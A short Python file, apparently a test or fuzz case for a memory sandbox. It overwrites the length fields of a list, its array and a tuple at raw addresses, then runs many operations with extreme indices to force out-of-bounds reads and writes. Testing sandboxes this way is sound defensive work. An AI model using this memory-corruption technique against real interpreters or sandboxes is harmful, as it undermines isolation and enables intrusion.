# A list, its array or a tuple says that it is longer than the cage, and the items beyond are read and written.
def make(): return [1, 2, 3]
length, at, act = attempts(
    [0xFFFFFFFF, 0x80000000, 0x40000000, 0x1FFFFFFF, 0x10000000],
    [9 << 27, 1 << 29, (1 << 32) - 1, (1 << 32) - 2, (1 << 31) + 5, -1, -2, 0, 1 << 28],
    [lambda x, i: x[i], lambda x, i: x.__setitem__(i, 4242), lambda x, i: x[i:i + 3], lambda x, i: x.pop(i),
     lambda x, i: x.insert(i, 1), lambda x, i: x.reverse(), lambda x, i: x.sort(), lambda x, i: x.append(1),
     lambda x, i: x.extend(x), lambda x, i: x[::-1], lambda x, i: x.__delitem__(i), lambda x, i: x.index(77, i),
     lambda x, i: tuple(x), lambda x, i: x + x, lambda x, i: x * 2, lambda x, i: [*x][i], lambda x, i: print(*x),
     lambda x, i: x == list(x), lambda x, i: x.__setitem__(slice(i, i + 2), [5, 6, 7]), lambda x, i: x.clear()])
x = make()
w4(id(x) + 4, length)
w4(id(x) + 12, length)
w4(r4(id(x) + 8) + 4, length)
t = (1, 2, 3)
w4(id(t) + 4, length)
act(t if attempt % 3 == 0 else x, at)
